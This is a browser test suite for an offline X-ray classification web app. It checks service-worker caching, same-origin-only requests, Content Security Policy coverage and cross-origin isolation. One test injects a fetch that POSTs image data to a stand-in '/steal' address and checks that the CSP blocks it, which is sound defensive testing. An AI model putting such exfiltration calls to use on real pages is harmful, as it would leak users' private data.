"""Offline use, privacy and cross-origin isolation: what the service worker promises."""

from __future__ import annotations

from urllib.parse import urlsplit

import numpy as np
import pytest
from PIL import Image

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def xray(tmp_path_factory):
    from training.data.phantoms import phantom

    path = tmp_path_factory.mktemp("offline") / "phantom.png"
    Image.fromarray(phantom(np.random.default_rng(5), "Pneumonia", 128)[0]).save(path)
    return path


def test_works_offline_after_the_first_visit(app, xray):
    app.open()
    app.context.set_offline(True)
    response = app.page.reload()
    assert response.from_service_worker, "the page did not come from the service worker"
    app.wait_ready(offline_ready=False)
    (row,) = app.classify([xray])
    assert row["status"] == "done"
    assert app.page.evaluate("navigator.onLine") is False


def test_no_request_leaves_the_origin_and_classifying_makes_none(app, base_url, xray, site):
    app.open()
    origin = urlsplit(base_url)[:2]
    seen = list(app.requests)
    assert seen, "no request was recorded: is request recording broken?"
    # Every file of the build is fetched (the service worker's precache fetches are recorded too) but the model
    # files nobody chose, and the large ones once: the worker puts the model and the wasm it loads into the build's
    # cache, where the precache finds them.
    paths = [urlsplit(r.url).path.lstrip("/") for r in seen]
    on_demand = {f"model/{n}" for n in site["card"]["files"] if n != site["card"]["default_model"]}
    assert set(paths) >= set(site["files"]) - {"sw.js"} - on_demand
    assert not set(paths) & on_demand
    large = [path for path, info in site["files"].items() if info["size"] > 1_000_000 and path not in on_demand]
    assert large and all(paths.count(path) == 1 for path in large), {p: paths.count(p) for p in large}
    for request in seen:
        assert urlsplit(request.url)[:2] == origin, request.url
        assert request.method == "GET", (request.method, request.url)
        assert request.post_data_buffer is None
    before = len(app.requests)
    rows = app.classify([xray, xray])
    assert [r["status"] for r in rows] == ["done", "done"]
    app.page.click("#results-table tbody tr:nth-child(2) button")  # the viewer decodes again: still no request
    app.page.wait_for_selector("#results-table tbody tr.selected[data-index='1']", state="attached")
    app.page.select_option("#heat-class", "0")
    app.page.wait_for_timeout(300)
    assert [r.url for r in app.requests[before:]] == []


def test_csp_blocks_other_origins_in_the_page_and_covers_the_workers(app):
    app.open()
    blocked = app.page.evaluate("""async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      let error = null;
      try { await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "pixels" }); }
      catch (e) { error = String(e); }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { error, violations };
    }""")
    assert blocked["error"] and "connect-src" in blocked["violations"]
    assert not any("127.0.0.2" in r.url for r in app.requests)
    # The service worker adds the same policy as a header, which (unlike the meta tag) governs the workers.
    csp = app.page.evaluate("async () => (await fetch('app/worker/worker.js')).headers.get('content-security-policy')")
    assert "connect-src 'self'" in csp and "script-src 'self' 'wasm-unsafe-eval'" in csp
    app.console.clear()  # the violation above is logged as an error on purpose


def test_service_worker_makes_the_page_cross_origin_isolated(app, served):
    """A static host without COOP/COEP: the service worker adds them, the page reloads once, 2 threads run."""
    served.server.isolation_headers = False
    try:
        first = app.page.goto(app.base_url)
        assert "cross-origin-opener-policy" not in first.headers
        app.wait_ready()
        # The reload happened (once) when the service worker took control; now the page is isolated.
        app.page.wait_for_selector("#engine[data-isolated=true]", state="attached")
        assert app.page.evaluate("crossOriginIsolated") is True
        engine = app.engine()
        assert engine["threads"] == "2"
        navigation = app.page.evaluate("performance.getEntriesByType('navigation')[0].type")
        assert navigation == "reload"
        assert app.page.evaluate("sessionStorage.length") == 0  # the reload guard was cleared once isolated
    finally:
        served.server.isolation_headers = True


def test_threads_follow_isolation(app):
    app.open()
    assert app.page.evaluate("crossOriginIsolated") is True
    assert app.engine()["threads"] == "2"
    assert app.engine()["isolated"] == "true"


def test_a_model_file_is_fetched_when_chosen_and_then_works_offline(app, site, xray):
    other = next(n for n in site["card"]["files"] if n != site["card"]["default_model"])
    app.open()
    app.context.set_offline(True)
    app.page.select_option("#model-choice", other)  # never chosen: not stored, and there is no network
    app.page.wait_for_selector("#status[data-kind=error]", state="attached")
    assert "not been stored for offline use yet" in app.page.text_content("#status")
    app.context.set_offline(False)
    app.page.select_option("#model-choice", site["card"]["default_model"])
    app.page.wait_for_selector(f"#engine[data-model='{site['card']['default_model']}']", state="attached")
    before = len(app.requests)
    app.page.select_option("#model-choice", other)  # online: fetched once, kept in the build's cache
    app.page.wait_for_selector(f"#engine[data-model='{other}']", state="attached")
    # (the worker's request and the service worker's, which passes it to the network, are both recorded)
    network = [r for r in app.requests[before:] if r.url.endswith(f"model/{other}") and r.service_worker is not None]
    assert len(network) == 1
    app.context.set_offline(True)
    app.page.reload()
    app.wait_ready(offline_ready=False)
    app.page.select_option("#model-choice", other)
    app.page.wait_for_selector(f"#engine[data-model='{other}']", state="attached")
    (row,) = app.classify([xray])
    assert row["status"] == "done" and row["model"] == other
